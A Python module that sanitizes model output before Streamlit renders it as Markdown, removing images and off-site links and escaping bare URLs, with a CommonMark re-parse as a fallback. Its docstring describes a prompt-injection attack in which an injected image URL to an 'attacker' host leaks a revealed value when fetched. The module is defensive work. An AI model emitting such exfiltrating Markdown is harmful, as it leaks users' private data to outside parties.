"""Model text made safe to render as Markdown: no images, and no links to hosts outside the deployment.

An answer can be steered by a document ("prompt injection") into Markdown such as
``![](http://attacker/?e=<EMAIL_ADDRESS_2>)``: rendered after a reveal, the browser would fetch that URL with
the real value in it, or offer it as a link. ``safe_md`` rewrites model text before ``st.markdown``:

- images (``![alt](url)``, ``![alt][ref]``) become the text ``[image removed: alt]``: nothing is fetched;
- links keep their text; the link itself stays only for a relative address (``/...``, ``#...``) or a host in
  ``allowed_hosts``; reference definitions (``[ref]: url``) to other hosts are dropped;
- bare addresses (``http://...``, ``www....``, ``<scheme:...>``) and e-mail addresses are escaped so that no
  autolink is made of them; ``<``, ``>`` and ``$`` are escaped (surrogates such as ``<PERSON_3>`` stay
  visible, and no HTML or math is interpreted).

The result is then parsed with a CommonMark parser (markdown-it-py, the rules Streamlit's renderer follows);
if any image or outside link survived the rewrite (nested brackets, entities, odd spacing), the whole text is
escaped instead, character by character, so it shows as plain text.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from markdown_it import MarkdownIt

# ![alt](dest "title") and ![alt][ref]: alt without brackets, destination up to the matching paren
_IMAGE = re.compile(r"!\[([^\[\]]*)\](?:\((?:[^()\s]|\([^()]*\))*(?:\s+[^)]*)?\)|\[[^\[\]]*\])?")
_LINK = re.compile(r"\[([^\[\]]*)\]\(\s*(<[^>]*>|(?:[^()\s]|\([^()]*\))*)(?:\s+[^)]*)?\)")
_REF_LINK = re.compile(r"\[([^\[\]]*)\]\[([^\[\]]*)\]")
_DEFINITION = re.compile(r"^[ ]{0,3}\[([^\]]+)\]:\s*(\S+).*$", re.MULTILINE)
_ANGLE = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^<>\s]*)>")
_BARE = re.compile(r"(?i)\b(?:[a-z][a-z0-9+.\-]{1,31}://|www\.)")
_EMAIL_AT = re.compile(r"(?<=[\w.+\-])@(?=[\w\-]+\.)")
_PUNCTUATION = set("\\`*_{}[]()<>#+-.!|~:$@&=\"'^")

_PARSER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])


def _decoded(url: str) -> str:
    return html.unescape(url.strip().strip("<>")).strip()


def link_allowed(url: str, allowed_hosts: Iterable[str] = ()) -> bool:
    """A relative address in the deployment, or one on an allowed host (http or https)."""
    target = _decoded(url)
    if any(ord(c) < 32 for c in target) or "\\" in target:
        return False
    if target.startswith("#") or (target.startswith("/") and not target.startswith("//")):
        return True
    parts = urlsplit(target)
    if not parts.scheme and not parts.netloc:
        return ":" not in target.split("/", 1)[0]  # "page.html", not "javascript:..."
    hosts = {h.lower() for h in allowed_hosts}
    return parts.scheme in ("http", "https") and (parts.hostname or "").lower() in hosts


def escape_all(text: str) -> str:
    """Every Markdown punctuation character escaped: the text renders as itself, with no markup at all."""
    return "".join("\\" + ch if ch in _PUNCTUATION else ch for ch in text)


def no_autolinks(text: str) -> str:
    """Bare addresses and e-mail addresses escaped so that no renderer turns them into links."""
    text = _BARE.sub(lambda m: m.group(0).replace(":", "\\:").replace(".", "\\."), text)
    return _EMAIL_AT.sub("\\@", text)


def _rewrite(text: str, allowed_hosts: tuple[str, ...]) -> str:
    text = _IMAGE.sub(lambda m: f"[image removed{': ' + m.group(1) if m.group(1).strip() else ''}]", text)
    definitions = {m.group(1).strip().lower(): m.group(2) for m in _DEFINITION.finditer(text)}
    text = _DEFINITION.sub(lambda m: m.group(0) if link_allowed(m.group(2), allowed_hosts) else "", text)

    def inline(match: re.Match[str]) -> str:
        return match.group(0) if link_allowed(match.group(2), allowed_hosts) else match.group(1)

    def reference(match: re.Match[str]) -> str:
        url = definitions.get((match.group(2) or match.group(1)).strip().lower())
        return match.group(0) if url is not None and link_allowed(url, allowed_hosts) else match.group(1)

    text = _LINK.sub(inline, text)
    text = _REF_LINK.sub(reference, text)
    text = _ANGLE.sub(lambda m: m.group(1), text)  # autolink brackets dropped; the address is escaped below
    text = no_autolinks(text)
    return text.replace("<", "\\<").replace(">", "\\>").replace("$", "\\$")


def unsafe_elements(markdown: str, allowed_hosts: Iterable[str] = ()) -> list[str]:
    """Images and outside links a CommonMark renderer would make of ``markdown`` (their addresses)."""
    found: list[str] = []
    stack = list(_PARSER.parse(markdown))
    while stack:
        token = stack.pop()
        stack.extend(token.children or [])
        if token.type == "image":
            found.append(str(token.attrGet("src") or ""))
        elif token.type == "link_open":
            href = str(token.attrGet("href") or "")
            if not link_allowed(href, allowed_hosts):
                found.append(href)
    return found


def safe_md(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """``text`` ready for ``st.markdown``: no image, no link outside the deployment (see the module)."""
    hosts = tuple(allowed_hosts)
    rewritten = _rewrite(text, hosts)
    if unsafe_elements(rewritten, hosts):
        return escape_all(text)
    return rewritten
